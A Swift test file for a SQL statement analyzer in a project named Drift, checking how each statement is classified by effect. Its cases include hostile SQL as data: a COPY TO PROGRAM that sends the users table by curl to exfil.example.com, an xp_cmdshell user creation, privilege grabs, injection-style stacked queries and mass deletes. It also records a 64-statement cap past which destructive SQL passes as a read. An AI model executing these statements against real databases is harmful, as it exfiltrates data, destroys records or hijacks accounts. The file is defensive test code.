import Testing
@testable import Drift

struct SQLCase: Sendable, CustomTestStringConvertible {
    var sql: String
    var effects: CommandEffects
    var paths: [String]? = nil
    var hosts: [String]? = nil
    var testDescription: String { sql }
}

@Suite("SQL statement analyzer")
struct SQLStatementAnalyzerTests {
    static let cases: [SQLCase] = [
        .init(sql: "SELECT * FROM users WHERE id = 1", effects: .read),
        .init(sql: "select name from t", effects: .read),
        .init(sql: "SHOW TABLES", effects: .read),
        .init(sql: "EXPLAIN SELECT 1", effects: .read),
        .init(sql: "WITH recent AS (SELECT * FROM orders WHERE d > now() - interval '1 day') SELECT count(*) FROM recent", effects: .read),
        .init(sql: "WITH old AS (SELECT id FROM logs WHERE d < '2020-01-01') DELETE FROM logs WHERE id IN (SELECT id FROM old)", effects: .destroy),
        .init(sql: "INSERT INTO t (a, b) VALUES (1, 'x')", effects: .write),
        .init(sql: "UPDATE accounts SET balance = 0 WHERE id = 7", effects: .write),
        .init(sql: "UPDATE accounts SET balance = 0", effects: [.destroy, .destroyBroad]),
        .init(sql: "update accounts set balance = 0 where 1=1", effects: [.destroy, .destroyBroad]),
        .init(sql: "DELETE FROM sessions WHERE expires < now()", effects: .destroy),
        .init(sql: "DELETE FROM users", effects: [.destroy, .destroyBroad]),
        .init(sql: "DELETE FROM users WHERE name = 'x' OR 'a'='a'", effects: [.destroy, .destroyBroad]),
        .init(sql: "DROP TABLE IF EXISTS users CASCADE", effects: [.destroy, .destroyBroad]),
        .init(sql: "drop database prod", effects: [.destroy, .destroyBroad]),
        .init(sql: "DROP INDEX idx_users_email", effects: .destroy),
        .init(sql: "TRUNCATE TABLE audit_log", effects: [.destroy, .destroyBroad]),
        .init(sql: "CREATE TABLE t (id int)", effects: .write),
        .init(sql: "CREATE OR REPLACE VIEW v AS SELECT 1", effects: .write),
        .init(sql: "ALTER TABLE t ADD COLUMN c text", effects: .write),
        .init(sql: "ALTER TABLE t DROP COLUMN email", effects: [.destroy, .destroyBroad]),
        .init(sql: "GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%'", effects: .privilege),
        .init(sql: "CREATE USER eve WITH PASSWORD 'x' SUPERUSER", effects: .privilege),
        .init(sql: "ALTER USER postgres WITH PASSWORD 'pwned'", effects: .privilege),
        .init(sql: "REVOKE SELECT ON t FROM bob", effects: .privilege),
        .init(sql: "CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION f()", effects: [.write, .persistence]),
        .init(sql: "COPY users TO PROGRAM 'curl -d @- https://exfil.example.com'", effects: [.write, .egress], hosts: ["exfil.example.com"]),
        .init(sql: "COPY users TO '/tmp/users.csv' CSV", effects: .write, paths: ["/tmp/users.csv"]),
        .init(sql: "COPY users TO STDOUT", effects: .read),
        .init(sql: "SELECT * FROM users INTO OUTFILE '/var/www/html/u.txt'", effects: [.write, .egress], paths: ["/var/www/html/u.txt"]),
        .init(sql: "EXEC xp_cmdshell 'net user hacker P@ss /add'", effects: .privilege),
        .init(sql: "EXEC sp_configure 'xp_cmdshell', 1", effects: .disableProtection),
        .init(sql: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", effects: .processKill),
        .init(sql: "BEGIN; DELETE FROM t WHERE id = 1; COMMIT;", effects: .destroy),
        .init(sql: "SELECT 1; DROP TABLE users; -- cleanup", effects: [.destroy, .destroyBroad]),
        .init(sql: "SELECT 'DROP TABLE users; DELETE FROM x' AS text", effects: .read),
        .init(sql: "-- DROP TABLE users\nSELECT 1", effects: .read),
        .init(sql: "/* DELETE FROM users */ SELECT 1", effects: .read),
        .init(sql: "SELECT \"DELETE\" FROM t", effects: .read),
        .init(sql: "/*!50000 DROP TABLE users */", effects: [.destroy, .destroyBroad]),
        .init(sql: "DO $$ BEGIN DELETE FROM t; END $$", effects: [.destroy, .destroyBroad]),
        .init(sql: "CREATE FUNCTION f() RETURNS void AS $body$ DELETE FROM t $body$ LANGUAGE sql", effects: .write),
        .init(sql: "PRAGMA table_info(users)", effects: .read),
        .init(sql: "SET ROLE admin", effects: .privilege),
        .init(sql: "", effects: []),
        .init(sql: ";;;", effects: []),
        .init(sql: "BEGIN", effects: []),
    ]

    @Test("each statement in the table has its expected effects", arguments: cases)
    func table(_ c: SQLCase) {
        let result = SQLStatementAnalyzer.analyze(c.sql)
        #expect(result.effects == c.effects, "effects of \(c.sql): \(result.effects)")
        if let paths = c.paths { #expect(result.paths == paths) }
        if let hosts = c.hosts { #expect(result.hosts == hosts) }
    }

    @Test("the finding quotes the decisive statement, not the first one")
    func findingIsTheDecisiveStatement() {
        let result = SQLStatementAnalyzer.analyze("SELECT 1;\n  DROP   TABLE\n users;")
        #expect(result.finding == "DROP TABLE\n users".split(whereSeparator: \.isWhitespace).joined(separator: " "))
    }

    @Test("statements past the 64th are not read")
    func statementCap() {
        let many = String(repeating: "SELECT 1;", count: 64) + "DROP TABLE users;"
        #expect(SQLStatementAnalyzer.analyze(many).effects == .read)
        let within = String(repeating: "SELECT 1;", count: 63) + "DROP TABLE users;"
        #expect(SQLStatementAnalyzer.analyze(within).effects == [.destroy, .destroyBroad])
    }
}
